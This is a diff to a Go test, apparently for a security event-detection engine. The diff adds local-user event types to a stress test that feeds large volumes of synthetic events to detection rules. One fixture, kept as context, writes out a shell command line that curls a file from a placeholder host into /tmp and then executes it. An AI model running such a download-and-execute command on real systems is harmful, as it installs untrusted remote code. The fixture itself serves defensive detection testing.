@@ -142,6 +142,7 @@ func TestHostileSizes(t *testing.T) {
 		"brute-force-failed":  manyLogins,
 		"brute-force-success": manyLogins,
 		"group-member-added":  manyUsers, "group-member-removed": manyUsers,
+		"local-user-added": manyUsers, "local-user-deleted": manyUsers,
 		"download-then-run-sequence": func(n int) event.Item {
 			return &event.ProcessCreate{Executable: "/bin/sh", CommandLine: fmt.Sprintf("sh -c 'curl -o /tmp/%d http://h/%d; /tmp/r%d'", n, n, n)}
 		},
